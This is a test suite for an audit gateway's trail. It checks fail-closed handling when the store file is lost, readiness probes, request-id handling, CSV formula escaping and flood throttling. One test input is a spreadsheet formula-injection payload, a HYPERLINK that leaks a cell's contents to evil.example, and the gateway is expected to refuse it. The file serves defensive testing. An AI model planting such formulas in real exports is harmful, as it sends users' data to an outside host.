/**
 * The audit trail as an operator and an auditor rely on it (issue 11, observations 3-8),
 * over the whole stack:
 * - 3: the store's file removed or replaced while serving → 503, /ready 503 naming audit;
 * - 4: /ready writes to prove the store can commit (file size limit on SQLite, INSERT revoked
 *      in PostgreSQL), cached on a controllable clock;
 * - 5: record ids are the gateway's; a client's X-Request-Id is a separate, searchable field;
 * - 7: free text is validated where it enters and CSV cells are escaped (OWASP);
 * - 8: refusals name their procedure and reason; a 10,000-request bad-key flood costs a few
 *      records and one summary, and a legitimate client keeps being served.
 * (Observation 6, logs, is test/audit-logs.test.ts.)
 */
import { execFile, execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningGateway } from '../gateway/app.js';
import { splitCsvLine } from '../gateway/audit/export-format.js';
import type { AuditRecord } from '../gateway/audit/record.js';
import { verifyExportLines } from '../gateway/audit/sources.js';
import type { AuditStore } from '../gateway/audit/store.js';
import { PG_TEST_URL, postgresUnavailable, uniqueSchema } from './support/audit-testing.js';
import type { CitizenRecord } from '../mocks/world/types.js';
import { QUIET_GATEWAY, startStack, type Stack } from './support/stack.js';
import { send } from './support/send.js';

const CITIZEN_QUERY = 'query Citizen($personalId: ID!) { citizen(personalId: $personalId) { fullName } }';
const PREFILL_QUERY = `query Prefill($procedureId: ID!, $subject: SubjectInput!, $dossierId: String) {
  prefill(procedureId: $procedureId, subject: $subject, dossierId: $dossierId) { fields { key value } }
}`;

let stack: Stack;
let store: AuditStore;
let citizen: CitizenRecord;
const keys = { hcm: '', danang: '', auditor: '' };
const dirs: string[] = [];

/** Closes an extra gateway (each gateway owns its catalog: the main one keeps serving). */
async function closeExtra(gw: RunningGateway | null): Promise<void> {
  await gw?.close();
}

const bearer = (key: string) => ({ authorization: `Bearer ${key}` });
const purpose = { 'x-purpose': 'lodging-notification' };
const askCitizen = (gw: { graphqlUrl: string }, extra: Record<string, string> = {}) =>
  send(gw.graphqlUrl, { query: CITIZEN_QUERY, variables: { personalId: citizen.personalId } }, { ...bearer(keys.hcm), ...purpose, ...extra });

async function auditor(pathAndQuery: string, headers: Record<string, string> = {}) {
  const res = await fetch(`${stack.gatewayUrl}${pathAndQuery}`, { headers: { ...bearer(keys.auditor), ...headers } });
  return { status: res.status, text: await res.text() };
}

async function recordOf(requestId: string, s: AuditStore = store): Promise<AuditRecord> {
  const page = await s.search({ requestId }, { limit: 10 });
  expect(page.items, `exactly one record for ${requestId}`).toHaveLength(1);
  return page.items[0]!;
}

async function readyOf(gw: RunningGateway): Promise<{ status: number; body: { notReady?: string[]; checks?: Record<string, string> } }> {
  const res = await fetch(`${gw.url}/ready`);
  return { status: res.status, body: (await res.json()) as never };
}

function tempDir(): string {
  const d = mkdtempSync(path.join(tmpdir(), 'motlan-audit-ops-'));
  dirs.push(d);
  return d;
}

beforeAll(async () => {
  stack = await startStack({ citizens: 300, gateway: { audit: { dataDir: tempDir(), checkpointEvery: 10, checkpointIntervalMs: 0 }, ...QUIET_GATEWAY } });
  store = stack.gateway.services.need('audit').store;
  const creds = stack.gateway.clients.demoCredentials();
  keys.hcm = creds.find((c) => c.clientId === 'demo-hcm')!.key;
  keys.danang = creds.find((c) => c.clientId === 'demo-danang')!.key;
  keys.auditor = creds.find((c) => c.roles.includes('auditor'))!.key;
  citizen = stack.world.citizens.find((c) => c.dateOfBirth < '2000-01-01' && !c.dateOfDeath)!;
});

afterAll(async () => {
  await stack?.close();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

describe('observation 3: the store lost while serving fails closed', () => {
  it('audit.db removed → the next data request is 503 AUDIT_UNAVAILABLE and /ready is 503 naming audit, until restart', async () => {
    const dir = tempDir();
    const gw = await stack.startGateway({ audit: { dataDir: dir }, ...QUIET_GATEWAY });
    try {
      expect((await askCitizen(gw)).status).toBe(200);
      expect((await readyOf(gw)).status).toBe(200);

      rmSync(path.join(dir, 'audit.db'));
      const refused = await askCitizen(gw);
      expect(refused.status).toBe(503);
      expect(refused.body?.errors?.[0]?.extensions?.code).toBe('AUDIT_UNAVAILABLE');
      expect(refused.body?.data).toBeUndefined();
      expect(refused.text).not.toContain(citizen.fullName);
      const ready = await readyOf(gw);
      expect(ready.status).toBe(503);
      expect(ready.body.notReady?.find((n) => n.startsWith('audit:'))).toMatch(/lost.*removed/);
      // Sticky: SQLite would happily keep writing into the unlinked file; the gateway does not.
      expect((await askCitizen(gw)).status).toBe(503);
    } finally {
      await closeExtra(gw);
    }
  });

  it('audit.db replaced by another file (same name, other inode) → 503 and /ready 503', async () => {
    const dir = tempDir();
    const gw = await stack.startGateway({ audit: { dataDir: dir }, ...QUIET_GATEWAY });
    try {
      expect((await askCitizen(gw)).status).toBe(200);
      const file = path.join(dir, 'audit.db');
      copyFileSync(file, `${file}.copy`);
      rmSync(file);
      copyFileSync(`${file}.copy`, file);
      expect((await askCitizen(gw)).status).toBe(503);
      const ready = await readyOf(gw);
      expect(ready.status).toBe(503);
      expect(ready.body.notReady?.find((n) => n.startsWith('audit:'))).toMatch(/replaced/);
    } finally {
      await closeExtra(gw);
    }
  });

  it('the write-ahead log removed → 503 too (its records would never reach the database)', async () => {
    const dir = tempDir();
    const gw = await stack.startGateway({ audit: { dataDir: dir }, ...QUIET_GATEWAY });
    try {
      expect((await askCitizen(gw)).status).toBe(200);
      expect((await askCitizen(gw)).status).toBe(200);
      rmSync(path.join(dir, 'audit.db-wal'));
      expect((await askCitizen(gw)).status).toBe(503);
      expect((await readyOf(gw)).body.notReady?.join(' ')).toMatch(/write-ahead log .* removed/);
    } finally {
      await closeExtra(gw);
    }
  });
});

describe('observation 4: /ready tells whether the store can commit', () => {
  const prlimit = (() => {
    try {
      execFileSync('prlimit', ['--version'], { stdio: 'ignore' });
      return true;
    } catch {
      if (process.env.CI) throw new Error('prlimit (util-linux) is required in CI for the disk-full test');
      return false;
    }
  })();

  it.skipIf(!prlimit)('SQLite that cannot grow its files (disk full / quota: RLIMIT_FSIZE) → 503 and /ready 503; recovers when space returns', async () => {
    let clock = 1_000_000;
    const dir = tempDir();
    const gw = await stack.startGateway({ audit: { dataDir: dir, now: () => clock }, ...QUIET_GATEWAY });
    const setLimit = (soft: string) => execFileSync('prlimit', ['--pid', String(process.pid), `--fsize=${soft}:`]);
    try {
      expect((await askCitizen(gw)).status).toBe(200);
      expect((await readyOf(gw)).status).toBe(200);
      const size = Math.max(statSync(path.join(dir, 'audit.db-wal')).size, statSync(path.join(dir, 'audit.db')).size);
      setLimit(String(size));
      try {
        const refused = await askCitizen(gw);
        expect(refused.status).toBe(503);
        expect(refused.text).not.toContain(citizen.fullName);
        clock += 10_000;
        const ready = await readyOf(gw);
        expect(ready.status).toBe(503);
        expect(ready.body.notReady?.find((n) => n.startsWith('audit:'))).toMatch(/cannot commit/);
      } finally {
        setLimit('unlimited');
      }
      clock += 10_000;
      expect((await readyOf(gw)).status).toBe(200);
      expect((await askCitizen(gw)).status).toBe(200);
    } finally {
      await closeExtra(gw);
    }
  });

  it('PostgreSQL with INSERT revoked → /ready 503 once the probe cache (controllable clock) expires; data requests 503', async () => {
    if (await postgresUnavailable()) return;
    const admin = new pg.Pool({ connectionString: PG_TEST_URL, max: 1 });
    const schema = uniqueSchema('ready');
    const role = `${schema}_gw`;
    let clock = 5_000_000;
    let gw: RunningGateway | null = null;
    try {
      await admin.query(`CREATE ROLE ${role} LOGIN`);
      await admin.query(`CREATE SCHEMA ${schema}`);
      await admin.query(`GRANT USAGE, CREATE ON SCHEMA ${schema} TO ${role}`);
      // CREATE SCHEMA IF NOT EXISTS (the store's init) needs CREATE on the database, even when the schema exists.
      const db = (await admin.query('SELECT current_database() AS d')).rows[0].d as string;
      await admin.query(`GRANT CREATE ON DATABASE "${db}" TO ${role}`);
      const url = new URL(PG_TEST_URL);
      url.username = role;
      url.password = '';
      gw = await stack.startGateway({
        audit: { dataDir: tempDir(), databaseUrl: url.toString(), databaseSchema: schema, instanceId: 'ready-pg', now: () => clock, readyProbeCacheMs: 5000 },
        ...QUIET_GATEWAY,
      });
      expect((await askCitizen(gw)).status).toBe(200);
      expect((await readyOf(gw)).status).toBe(200);

      await admin.query(`REVOKE INSERT ON ALL TABLES IN SCHEMA ${schema} FROM ${role}`);
      // Within the cache window the last successful probe still counts…
      clock += 1000;
      expect((await readyOf(gw)).status).toBe(200);
      // …after it, /ready writes again and tells the truth.
      clock += 5000;
      const ready = await readyOf(gw);
      expect(ready.status).toBe(503);
      expect(ready.body.notReady?.find((n) => n.startsWith('audit:'))).toMatch(/permission denied/);
      const refused = await askCitizen(gw);
      expect(refused.status).toBe(503);
      expect(refused.body?.errors?.[0]?.extensions?.code).toBe('AUDIT_UNAVAILABLE');
      // A failed commit forgets the cache at once: still 503 without moving the clock.
      expect((await readyOf(gw)).status).toBe(503);

      await admin.query(`GRANT INSERT ON ALL TABLES IN SCHEMA ${schema} TO ${role}`);
      expect((await readyOf(gw)).status).toBe(200);
      expect((await askCitizen(gw)).status).toBe(200);
    } finally {
      await closeExtra(gw);
      await admin.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`).catch(() => {});
      await admin.query(`DROP OWNED BY ${role}`).catch(() => {});
      await admin.query(`DROP ROLE IF EXISTS ${role}`).catch(() => {});
      await admin.end();
    }
  });
});

describe('observation 4: a fault on SQLite shared memory cannot crash the gateway', () => {
  /** Runs test/audit-shm-child.ts; resolves with its output lines and how it ended. */
  const child = (locking: 'exclusive' | 'shared') =>
    new Promise<{ lines: Array<Record<string, unknown>>; code: number | null; signal: string | null }>((resolve) => {
      const dir = tempDir();
      const p = execFile(process.execPath, ['--import', 'tsx', path.join(import.meta.dirname, 'audit-shm-child.ts')], {
        env: { ...process.env, SHM_DIR: dir, SHM_LOCKING: locking },
        timeout: 60_000,
      });
      let out = '';
      p.stdout?.on('data', (d: Buffer) => (out += d.toString()));
      p.on('exit', (code, signal) => resolve({ lines: out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>), code, signal }));
    });

  it('exclusive locking (the default) maps no -shm: truncating one changes nothing; shared locking dies of SIGBUS', async () => {
    const exclusive = await child('exclusive');
    expect(exclusive.signal).toBeNull();
    expect(exclusive.code).toBe(0);
    expect(exclusive.lines).toEqual([{ step: 'first', shm: false }, { step: 'second', second: 'committed', seq: 2 }]);
    // What the default avoids (the observation): the same fault on a memory-mapped -shm kills the process.
    const shared = await child('shared');
    expect(shared.lines[0]).toEqual({ step: 'first', shm: true });
    expect(shared.signal).toBe('SIGBUS');
  }, 120_000);

  it('the serving gateway keeps no -shm; an unwritable one planted next to the database is ignored', async () => {
    const dir = tempDir();
    const gw = await stack.startGateway({ audit: { dataDir: dir }, ...QUIET_GATEWAY });
    try {
      expect((await askCitizen(gw)).status).toBe(200);
      const shm = path.join(dir, 'audit.db-shm');
      expect(existsSync(shm)).toBe(false);
      writeFileSync(shm, '');
      chmodSync(shm, 0o000);
      expect((await askCitizen(gw)).status).toBe(200);
      expect((await readyOf(gw)).status).toBe(200);
    } finally {
      await closeExtra(gw);
    }
  });
});

describe('observation 5: the gateway generates record ids', () => {
  it('two clients sending the same X-Request-Id get two records with their own ids; the client value is searchable', async () => {
    const chosen = `tthc-${Date.now()}`;
    const a = await askCitizen(stack, { 'x-request-id': chosen });
    const b = await send(stack.graphqlUrl, { query: PREFILL_QUERY, variables: { procedureId: 'lodging-notification', subject: { personalId: citizen.personalId } } }, {
      ...bearer(keys.danang),
      'x-request-id': chosen,
    });
    for (const r of [a, b]) {
      expect(r.requestId).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
      expect(r.requestId).not.toBe(chosen);
    }
    expect(a.requestId).not.toBe(b.requestId);

    const byA = JSON.parse((await auditor(`/audit/v1/requests/${a.requestId}`)).text) as { record: AuditRecord };
    const byB = JSON.parse((await auditor(`/audit/v1/requests/${b.requestId}`)).text) as { record: AuditRecord };
    expect(byA.record).toMatchObject({ requestId: a.requestId, clientId: 'demo-hcm', clientRequestId: chosen });
    expect(byB.record).toMatchObject({ requestId: b.requestId, clientId: 'demo-danang', clientRequestId: chosen });

    const search = JSON.parse((await auditor(`/audit/v1/records?clientRequestId=${chosen}`)).text) as { items: AuditRecord[] };
    expect(search.items.map((r) => r.requestId).sort()).toEqual([a.requestId, b.requestId].sort());
  });

  it('a malformed or overlong client value is not kept, and the search parameter is validated', async () => {
    const spaced = await askCitizen(stack, { 'x-request-id': 'bad id with spaces' });
    const long = await askCitizen(stack, { 'x-request-id': 'x'.repeat(65) });
    expect((await recordOf(spaced.requestId)).clientRequestId).toBeUndefined();
    expect((await recordOf(long.requestId)).clientRequestId).toBeUndefined();
    expect((await auditor('/audit/v1/records?clientRequestId=bad%20id')).status).toBe(400);
    expect((await auditor(`/audit/v1/records?clientRequestId=${'x'.repeat(65)}`)).status).toBe(400);
  });
});

describe('observation 7: exports cannot carry formulas', () => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

  it("prefill's dossierId follows the X-Dossier-Id rule: a formula is refused (400) and never recorded", async () => {
    const viaArg = await send(stack.graphqlUrl, {
      query: PREFILL_QUERY,
      variables: { procedureId: 'lodging-notification', subject: { personalId: citizen.personalId }, dossierId: formula },
    }, bearer(keys.hcm));
    expect(viaArg.body?.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(viaArg.body?.errors?.[0]?.message).toMatch(/dossierId must be 1-64 letters/);
    expect(viaArg.text).not.toContain(citizen.fullName);
    const rec = await recordOf(viaArg.requestId);
    expect(rec.dossierId).toBeNull();
    expect(rec.procedureId).toBe('lodging-notification');

    const viaHeader = await askCitizen(stack, { 'x-dossier-id': formula.slice(0, 60) });
    expect(viaHeader.status).toBe(400);
    expect((await recordOf(viaHeader.requestId)).dossierId).toBeNull();
  });

  it('CSV cells that a spreadsheet would run are escaped, and the export still verifies', async () => {
    // `-` is allowed in X-Request-Id, and "-1+1"-style cells are formulas in Excel and LibreOffice.
    const sent = await askCitizen(stack, { 'x-request-id': '-2-3', 'x-dossier-id': 'HS-CSV-1' });
    expect((await recordOf(sent.requestId)).clientRequestId).toBe('-2-3');
    const csv = await auditor('/audit/v1/export?format=csv', { 'x-subject-personal-id': citizen.personalId });
    expect(csv.status).toBe(200);
    const lines = csv.text.split('\n').filter((l) => l !== '');
    const header = splitCsvLine(lines[0]!);
    let escaped = 0;
    for (const line of lines) {
      for (const c of splitCsvLine(line)) {
        expect(c, `cell of: ${line.slice(0, 80)}`).not.toMatch(/^[=+\-@\t\r]/);
        if (c === "'-2-3") escaped++;
      }
      // The raw text of an escaped cell is quoted as well (OWASP: prefix ' and quote).
    }
    expect(escaped).toBe(1);
    expect(csv.text).toContain(`"'-2-3"`);
    expect(header).toContain('clientRequestId');
    const report = await verifyExportLines(csv.text.split('\n'));
    expect(report.ok, JSON.stringify(report.chains.map((c) => c.problem))).toBe(true);
  });
});

describe('observation 8: refusals keep their context, floods stay cheap', () => {
  it('a prefill refused for a missing subject token names the procedure and the reason code', async () => {
    const r = await send(stack.graphqlUrl, {
      query: PREFILL_QUERY,
      variables: { procedureId: 'lodging-notification', subject: { personalId: citizen.personalId }, dossierId: 'HS-TOKEN-1' },
    }, bearer(keys.danang));
    expect(r.status).toBe(403);
    expect(r.body?.errors?.[0]?.extensions?.reason).toBe('SUBJECT_TOKEN_MISSING');
    expect(await recordOf(r.requestId)).toMatchObject({
      outcome: 'DENIED',
      clientId: 'demo-danang',
      procedureId: 'lodging-notification',
      dossierId: 'HS-TOKEN-1',
      reasonCode: 'SUBJECT_TOKEN_MISSING',
    });
    const wrong = await send(stack.graphqlUrl, {
      query: PREFILL_QUERY,
      variables: { procedureId: 'lodging-notification', subject: { personalId: citizen.personalId } },
    }, { ...bearer(keys.danang), 'x-subject-token': 'not.a.token' });
    expect(wrong.status).toBe(403);
    expect(await recordOf(wrong.requestId)).toMatchObject({ procedureId: 'lodging-notification', reasonCode: 'SUBJECT_TOKEN_INVALID' });
  });

  it('a plain query refused by policy records its reason code; a successful one has none', async () => {
    const noPurpose = await send(stack.graphqlUrl, { query: CITIZEN_QUERY, variables: { personalId: citizen.personalId } }, bearer(keys.hcm));
    expect(noPurpose.status).toBe(403);
    expect(await recordOf(noPurpose.requestId)).toMatchObject({ outcome: 'DENIED', reasonCode: 'PURPOSE_MISSING' });
    const ok = await askCitizen(stack);
    expect(ok.status, ok.text).toBe(200);
    expect((await recordOf(ok.requestId)).reasonCode).toBeUndefined();
  });

  it('10,000 bad-key requests from one address: a handful of records and ONE summary; a legitimate client is served throughout', async () => {
    let clock = 10_000_000;
    const failures = 20;
    const gw = await stack.startGateway({
      audit: { dataDir: tempDir(), now: () => clock, throttle: { failures, windowMs: 60_000 } },
      ...QUIET_GATEWAY,
    });
    try {
      const trail = gw.services.need('audit');
      const before = await trail.store.count({});
      const statuses = new Map<number, number>();
      const legit: number[] = [];
      const FLOOD = 10_000;
      const CONCURRENCY = 100;
      for (let sent = 0; sent < FLOOD; sent += CONCURRENCY) {
        const batch = Array.from({ length: CONCURRENCY }, () =>
          gw.app.inject({
            method: 'POST',
            url: '/graphql',
            headers: { 'content-type': 'application/json', authorization: 'Bearer not-a-key' },
            payload: { query: '{ __typename }' },
          }),
        );
        if (sent % 2000 === 0) {
          // The legitimate client shares the address (in-process injection: 127.0.0.1).
          batch.push(
            gw.app.inject({
              method: 'POST',
              url: '/graphql',
              headers: { 'content-type': 'application/json', ...bearer(keys.hcm), ...purpose },
              payload: { query: CITIZEN_QUERY, variables: { personalId: citizen.personalId } },
            }).then((r) => {
              legit.push(r.statusCode);
              return r;
            }),
          );
        }
        for (const r of await Promise.all(batch)) statuses.set(r.statusCode, (statuses.get(r.statusCode) ?? 0) + 1);
      }
      expect(legit).toEqual(Array(FLOOD / 2000).fill(200));
      expect(statuses.get(401)).toBe(failures);
      expect(statuses.get(429)).toBe(FLOOD - failures);
      await trail.log.flush();
      expect(await trail.store.count({})).toBe(before + failures + legit.length);

      // The burst ends with its window: one summary record covering every refused request.
      clock += 60_001;
      trail.throttle!.sweep();
      await trail.log.flush();
      const summaries = (await trail.store.search({ outcomes: ['DENIED'] }, { limit: 10 })).items.filter((r) => r.reasonCode === 'SOURCE_THROTTLED');
      expect(summaries).toHaveLength(1);
      expect(summaries[0]).toMatchObject({ covers: FLOOD - failures, clientId: 'anonymous', httpStatus: 429, fields: [], entities: {} });
      expect(await trail.store.count({})).toBe(before + failures + legit.length + 1);

      // A new window: the address is heard again (its first failures are recorded one by one).
      const again = await gw.app.inject({ method: 'POST', url: '/graphql', headers: { 'content-type': 'application/json' }, payload: { query: '{ __typename }' } });
      expect(again.statusCode).toBe(401);
    } finally {
      await closeExtra(gw);
    }
  }, 120_000);
});
